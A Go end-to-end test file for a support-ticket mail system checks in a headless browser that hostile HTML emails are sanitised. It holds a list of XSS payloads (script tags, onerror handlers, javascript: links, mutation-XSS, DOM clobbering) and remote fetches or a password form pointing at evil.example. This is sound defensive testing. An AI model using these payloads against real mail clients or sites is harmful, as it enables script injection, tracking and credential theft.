package e2e

import (
	"bufio"
	"bytes"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"image"
	"image/png"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"postern/internal/mailtest"
)

// hostile are HTML mails that try to run a script, to fetch something, or to leave their box. What runs sets "pwned".
func hostile() []string {
	evil := []string{
		`<script>window.pwned=1</script>`,
		`<img src=x onerror="window.pwned=1"><img src="/sign-out"><img src="//evil.example/p.png"><img srcset="https://evil.example/s.png 1x">`,
		`<svg onload="window.pwned=1"><script>window.pwned=1</script><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
		`<form action="https://evil.example"><input name=password autofocus onfocus="window.pwned=1"><button>Sign in</button></form>`,
		`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e">`,
		`<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/c.css"><meta http-equiv=refresh content="0;url=https://evil.example/">`,
		`<style>@import "https://evil.example/i.css"; body{display:none} .compose{background:url(https://evil.example/b)} article{position:fixed;inset:0}</style>`,
		`<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/x)">over everything</div>`,
		`<div style="width:9000px;height:200vh;margin:-500px">big</div><table width=9000><tr><td width=9000>wide</td></tr></table>`,
		`</div></article></li></ol></div><h1>Not yours</h1><form id="reply" action="https://evil.example"><textarea name=text></textarea>`,
		`</blockquote></details></div></article><!--`, `<!--><img src=x onerror="window.pwned=1">-->`, `<![CDATA[<script>window.pwned=1</script>]]>`,
		`<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>`, `<template><script>window.pwned=1</script></template>`,
		`<a href="javascript:window.pwned=1">a</a> <a href="JaVa&#x09;Script:window.pwned=1">b</a> <a href="data:text/html,<script>opener.pwned=1</script>">c</a> <a href="vbscript:x">d</a>`,
		`<details open ontoggle="window.pwned=1"><summary>s</summary></details><video src="https://evil.example/v" autoplay onerror="window.pwned=1"></video><audio src="https://evil.example/a">`,
		`<p id="text" name="cookie" class="compose errs" data-rel data-sent="1" tabindex=1 contenteditable accesskey=x>clobber</p><a id=location name=querySelector>x</a><img name=body src="data:image/svg+xml,<svg onload=alert(1)>">`,
		`<p>` + strings.Repeat("x", 20000) + `</p>`, `<p>` + "\u202e" + `desrever` + strings.Repeat("\u0301", 500) + `</p>`, strings.Repeat("<div>", 3000) + "deep",
		`<table background="https://evil.example/t.png"><td background="https://evil.example/d.png">x</td></table><input type=image src="https://evil.example/i.png"><body background="https://evil.example/b.png">`,
		`<xss style="xss:expression(window.pwned=1)"><p style="background:u\72l(https://evil.example/u)">x</p><font face="https://evil.example">x</font>`,
	}
	corpus := os.Getenv("POSTERN_CORPUS")
	if corpus == "" {
		corpus = "../../../shared/corpus"
	}
	f, err := os.Open(filepath.Join(corpus, "expected", "xss_bluemonday.jsonl"))
	if errors.Is(err, fs.ErrNotExist) {
		return evil
	}
	if err != nil {
		panic(err)
	}
	defer f.Close()
	for lines := bufio.NewScanner(f); lines.Scan(); {
		var v struct{ Payload string }
		if err := json.Unmarshal(lines.Bytes(), &v); err != nil {
			panic(err)
		}
		evil = append(evil, v.Payload)
	}
	return evil
}

// TestP12_HostileMailInTheBrowser puts hostile mails into the mailbox and looks at the thread in a browser: no script runs,
// nothing is fetched from elsewhere, nothing leaves its message's box. The same once more with the page's policy switched
// off: what is cleaned must be harmless by itself.
func TestP12_HostileMailInTheBrowser(t *testing.T) {
	t.Parallel()
	in := install(t, mode{})
	in.start()
	const subject = `<script>window.pwned=1</script> "><img src=x onerror=window.pwned=1> hello`
	from := `"<img src=x onerror=window.pwned=1>" <mallory@evil-sender.example>`
	in.dovecot.Append("support", "INBOX", mailFrom(from, support, subject, "first@evil-sender.example", "", "<script>window.pwned=1</script> https://evil.example/?<b>\n"), nil, time.Now())
	first := in.ticketAbout(subject)
	bodies := hostile()
	for i, body := range bodies {
		head := strings.Replace(string(mailFrom(from, support, "Re: "+subject, fmt.Sprintf("evil-%d@evil-sender.example", i), "first@evil-sender.example", "")), "Content-Type: text/plain; charset=utf-8\r\n\r\n\r\n",
			"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n", 1)
		in.dovecot.Append("support", "INBOX", []byte(head+wrapped("<p><b>before</b></p>"+body)), nil, time.Now())
	}
	in.dovecot.Append("support", "INBOX", pictureMail(t, from, subject), nil, time.Now())
	in.within(2*time.Minute, "all mails are in the ticket", func() (bool, error) {
		n, err := in.countMessages(first.ID)
		return n == len(bodies)+2, errors.Join(err, fmt.Errorf("%d of %d are", n, len(bodies)+2))
	})

	p := openTab(t, in.url)
	p.arrives(in, "mallory@evil-sender.example")
	p.harmless("list")
	p.open(fmt.Sprintf("/tickets/%d", first.Number))
	// The inline picture shows; the remote one does not load.
	p.until("[...document.querySelectorAll('.thread .body img')].some(i => i.src.includes('/files/') && i.complete && i.naturalWidth === 3)")
	shown, frames := 0, 0
	for page := 0; ; page++ {
		if page > len(bodies) {
			t.Fatalf("there are more than %d pages", page)
		}
		for _, csp := range []bool{true, false} {
			p.do("policy", call(cdppage.SetBypassCSP, cdppage.SetBypassCSPParams{Enabled: !csp}))
			p.do("load the page with it", chromedp.Reload())
			p.harmless(fmt.Sprintf("thread, page %d, policy %v", page, csp))
			frames += p.originalsStayInTheirFrames(fmt.Sprintf("originals, page %d, policy %v", page, csp))
		}
		shown += eval[int](p, "document.querySelectorAll('.thread > li article > .body').length")
		if n := eval[int](p, "document.querySelectorAll('form').length"); n != 5 { // language, sign out, reply, mails, solved
			t.Errorf("page %d has %d forms", page, n)
		}
		p.staysInItsBox()
		earlier := `a.btn[href*="?before="]`
		if !p.bool("!!document.querySelector('" + earlier + "')") {
			break
		}
		p.leads("show earlier messages", click(earlier))
	}
	if want := 2 * (len(bodies) + 1); frames != want { // once with the page's policy and once without
		t.Errorf("%d originals were looked at, want %d", frames, want)
	}
	if shown != len(bodies)+2 {
		t.Errorf("the pages have %d messages in their places, want %d", shown, len(bodies)+2)
	}
	p.shoot("hostile")
}

// originalsStayInTheirFrames opens the original of every mail on the page: no script runs, nothing is fetched from elsewhere, and none grows beyond
// all bounds.
func (p *tab) originalsStayInTheirFrames(where string) (frames int) {
	p.t.Helper()
	frames = eval[int](p, `(() => { document.querySelectorAll('details.fold, details.orig').forEach(d => d.open = true);
		document.querySelectorAll('iframe[data-mail]').forEach(f => { f.loading = 'eager'; f.dataset.seen = ''; f.addEventListener('load', () => f.dataset.seen = '1'); if (f.contentDocument?.readyState === 'complete' && f.contentDocument.URL !== 'about:blank') f.dataset.seen = '1' });
		return document.querySelectorAll('iframe[data-mail]').length })()`)
	if frames == 0 {
		return 0
	}
	p.until("[...document.querySelectorAll('iframe[data-mail]')].every(f => f.dataset.seen)")
	if out := eval[[]string](p, `[...document.querySelectorAll('iframe[data-mail]')].flatMap(f => { const d = f.contentDocument, bad = [];
		if (!d) return ['a frame can not be measured'];
		if (d.defaultView.pwned) bad.push('a script ran in a frame');
		if (+f.height > 20000) bad.push('a frame is ' + f.height + ' px high');
		for (const e of d.querySelectorAll('script, form, input, object, embed, iframe, base, link, svg, math, [onerror], [onload], [srcdoc], [background]')) bad.push(e.outerHTML.slice(0, 200));
		for (const e of d.body.querySelectorAll('*')) if (getComputedStyle(e).position !== 'static') bad.push('it lies elsewhere: ' + e.outerHTML.slice(0, 200));
		return bad })`); len(out) > 0 {
		p.t.Errorf("%s: %d faults, the first is %s", where, len(out), out[0])
	}
	if p.bool("window.pwned !== undefined") {
		p.t.Errorf("%s: a script ran in the page", where)
	}
	p.clean(where)
	return frames
}

// staysInItsBox checks that no message is seen outside of its box.
func (p *tab) staysInItsBox() {
	p.t.Helper()
	for _, l := range []look{{width: 1280}, {width: 320}} {
		p.do("look", see(l))
		if out := eval[[]string](p, `[...document.querySelectorAll('.thread > li')].flatMap(li => { const box = li.getBoundingClientRect();
			return [...li.querySelectorAll('.body *')].filter(e => { const r = e.getBoundingClientRect(), s = getComputedStyle(e);
				return s.position !== 'static' && !e.closest('summary') || r.width && (r.left < box.left - 1 || r.right > box.right + 1) && !e.closest('table'); }).map(e => e.outerHTML.slice(0, 200)) })`); len(out) > 0 {
			p.t.Errorf("%s: %d elements leave their box, the first is %s", l, len(out), out[0])
		}
		if eval[bool](p, "document.documentElement.scrollWidth > innerWidth") {
			p.t.Errorf("%s: the page scrolls to the side", l)
		}
	}
}

// harmless checks that nothing ran or was fetched, also after everything in the page was touched.
func (p *tab) harmless(where string) {
	p.t.Helper()
	links := eval[[]string](p, `(() => { const stop = e => e.preventDefault(); document.addEventListener('click', stop, true);
		for (const e of document.querySelectorAll('.body, .body *, .subj, h1')) for (const k of ['mouseover', 'focus', 'click', 'error', 'load', 'toggle', 'animationstart', 'beforetoggle']) e.dispatchEvent(new MouseEvent(k, {bubbles: true, cancelable: true}));
		document.removeEventListener('click', stop, true);
		return [...document.querySelectorAll('.body [href]:not(use), .body [src], .body [action], .body [srcset], .body [style], .body [background]')].flatMap(e => ['href', 'src', 'action', 'srcset', 'style', 'background'].filter(a => e.hasAttribute(a)).map(a => a + ' ' + e.getAttribute(a))) })()`)
	for _, l := range links {
		attr, value, _ := strings.Cut(l, " ")
		u, err := url.Parse(value)
		switch {
		case err != nil:
			p.t.Errorf("%s: %s", where, l)
		case attr == "href" && (u.Scheme == "http" || u.Scheme == "https" || u.Scheme == "mailto" || u.Scheme == "tel"):
		case attr == "src" && (u.Scheme == "data" && strings.HasPrefix(value, "data:image/") || strings.HasPrefix(value, "/files/")):
		default:
			p.t.Errorf("%s: the page has %s", where, l)
		}
	}
	if p.bool("'pwned' in window || document.querySelector('.body iframe') !== null") {
		p.t.Errorf("%s: a script ran", where)
	}
	p.clean(where)
}

// wrapped is text in base64, in lines as mail has them.
func wrapped(s string) string {
	enc := base64.StdEncoding.EncodeToString([]byte(s))
	var b strings.Builder
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	return b.String() + enc + "\r\n"
}

// pictureMail carries a picture that its text shows, beside one from elsewhere.
func pictureMail(t testing.TB, from, subject string) []byte {
	t.Helper()
	var pic bytes.Buffer
	if err := png.Encode(&pic, image.NewGray(image.Rect(0, 0, 3, 2))); err != nil {
		t.Fatal(err)
	}
	head := strings.Replace(string(mailFrom(from, support, "Re: "+subject, "picture@evil-sender.example", "first@evil-sender.example", "")), "Content-Type: text/plain; charset=utf-8\r\n\r\n\r\n", "Content-Type: multipart/related; boundary=x\r\n\r\n", 1)
	return append([]byte(head), mailtest.Lines([]byte("--x\nContent-Type: text/html\n\n<p>See <img src=\"cid:pic@x\" alt=\"the picture\"> and <img src=\"https://evil.example/pixel.png\"></p>\n"+
		"--x\nContent-Type: image/png; name=pic.png\nContent-ID: <pic@x>\nContent-Disposition: inline\nContent-Transfer-Encoding: base64\n\n"+wrapped(pic.String())+"\n--x--\n"))...)
}

// countMessages counts a ticket's messages over all pages.
func (in *installation) countMessages(ticketID string) (int, error) {
	n, cursor := 0, ""
	for {
		var page list[message]
		if err := in.ask("GET", "/tickets/"+ticketID+"/messages?limit=200&cursor="+cursor, nil, &page); err != nil {
			return n, err
		}
		if n += len(page.Items); page.NextCursor == nil {
			return n, nil
		}
		cursor = *page.NextCursor
	}
}
